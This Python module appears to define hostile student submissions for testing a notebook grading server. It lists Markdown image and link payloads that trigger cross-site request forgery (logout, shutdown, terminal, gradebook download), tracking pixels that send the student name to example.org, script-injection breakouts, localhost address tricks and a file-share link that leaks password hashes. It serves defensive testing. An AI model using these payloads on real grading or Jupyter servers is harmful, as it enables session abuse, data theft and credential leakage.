"""Pictures and links of a written answer that lead into the instructor's server, or out to a stranger's."""

from .files import IMPORTED
from .model import Hostile
from .written import all_written, with_files, written

SETTINGS = {"nbgrader_config.py": IMPORTED}
LOADED = "attack on the kit, 2026: a picture's address makes formgrader load a submission's settings"
RELATIVE = "attack on the kit, 2026: relative addresses in written answers"
PIXEL = "OWASP LLM and e-mail guidance: tracking pixels in Markdown pictures"
WHATWG = "WHATWG URL standard: what browsers read as the same address"
COMMONMARK = "CommonMark's specification: links, images, reference definitions"
SCHEMES = "Snyk 2026, 'Same href, different syntax: XSS across content parsers'"
FORGERY = "OWASP: cross-site request forgery by GET"
FOLDER = "submitted/NAME/01-both-can-gain"
LOADING = {
    "beside the page": f"![d](../../?path={FOLDER})",
    "from the root": f"![d](/formgrader?path={FOLDER})",
    "with dots that are encoded": f"![d](%2e%2e/.%2E/?path={FOLDER})",
    "with backslashes": f"![d](<..\\\\..\\\\?path={FOLDER}>)",
    "the copy in autograded": "![d](../../?path=autograded/NAME/01-both-can-gain)",
    "scheme without slashes": f"![d](http:../../?path={FOLDER})",
    "name that is encoded": f"![d](../../?%70ath={FOLDER})",
    "by reference": f"![d][p]\n\n[p]: ../../?path={FOLDER}",
    "tabs within": f"![d](/form&Tab;grader?path={FOLDER})",
}
ACTING = {
    "signs out": "![](/logout)",
    "signs out, in a link": "[![](/logout)](https://example.org)",
    "next submission": "![](next)",
    "opens a notebook": "![](/notebooks/gradebook.db)",
    "server's files": "![](/files/gradebook.db) ![](/files/dossier-secret.txt)",
    "downloads the course": "[all](/files/gradebook.db?download=1)",
    "begins a terminal": "![](/terminals/new/1)",
    "asks the API": "![](/api/shutdown) ![](/formgrader/api/submission/x/autograde)",
    "files prefix that is stripped": "![](files///example.org/pixel.png)",
    "script under a files prefix": "[a](files/javascript:hurt()) [b](/files/javascript:hurt())",
    "picture beside the notebook": "![](chart.png)",
    "fragment that is a query": "[a](?index=0#why)",
}
OUTSIDE = {
    "pixel": "![](https://example.org/pixel.png?NAME)",
    "no protocol": "![](//example.org/pixel.png)",
    "backslashes for slashes": "![](<\\\\\\\\example.org\\\\pixel.png>) ![](<https:\\\\\\\\example.org/x>)",
    "four slashes": "![](////example.org/pixel.png)",
    "user before the host": "![](https://localhost@example.org/pixel.png)",
    "in a heading": "# ![](https://example.org/heading.png)",
    "in a table": "| a |\n| --- |\n| ![](https://example.org/table.png) |",
    "in a list of tasks": "- [ ] ![](https://example.org/task.png)",
    "after a definition": "word\n: ![](https://example.org/definition.png)",
    "by an empty reference": "![here][]\n\n[HERE]: <https://example.org/reference.png> 'title'",
    "reference that is defined twice": "![a][x]\n\n[x]: https://example.org/1.png\n[X]: /logout",
}
PROGRAMS = {
    "data page": "[a](data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4=) "
    "![](data:image/svg+xml,<svg onload=hurt()>)",
    "within another scheme": "[a](feed:javascript:hurt()) [b](view-source:javascript:hurt()) "
    "[c](jar:javascript:hurt())",
    "programs": "[a](ms-word:ofe|u|https://example.org/a.docm) [b](vscode://file/etc) [c](tel:0) "
    "[d](mailto:a@example.org)",
    "autolink": "<javascript:hurt()> <data:text/html,hurt> <x-hurt:1> <a@example.org>",
    "bare address that breaks out": "https://example.org/\"onmouseover=hurt()// https://example.org/'><b",
    "title that breaks out": '[a](https://example.org \'x" onmouseover="hurt()\') [b](https://example.org "\'><i>")',
    "alternative that breaks out": '![x" onerror="hurt()](https://example.org/none)',
    "address in brackets": "[a](<javascript:hurt()>) [b](<java\\\nscript:hurt()>)",
}
HERE = {
    "link to this machine": f"[see](http://localhost:8888/formgrader?path={FOLDER}) [b](http://127.0.0.1:8888/logout)",
    "this machine in other figures": "[a](http://0x7f.1:8888/logout) [b](http://2130706433/) [c](http://[::1]:8888/)",
}
SUBMISSIONS: tuple[Hostile, ...] = (
    *(with_files(h, SETTINGS) for h in all_written("settings loaded", LOADED, LOADING, aim="forge")),
    *all_written("address", RELATIVE, ACTING),
    *all_written("elsewhere", WHATWG, dict(list(OUTSIDE.items())[1:5])),
    *all_written("elsewhere", COMMONMARK, dict(list(OUTSIDE.items())[5:])),
    written("elsewhere: pixel", OUTSIDE["pixel"], PIXEL),
    *all_written("scheme", SCHEMES, PROGRAMS),
    *all_written("address", FORGERY, HERE),
    written(
        "file share",
        "![](<\\\\\\\\example.org\\\\share\\\\x.png>) ![](file://example.org/share/x.png)",
        "CVE-2024-35178 (Jupyter on Windows gives a password's hash to a file share)",
    ),
)
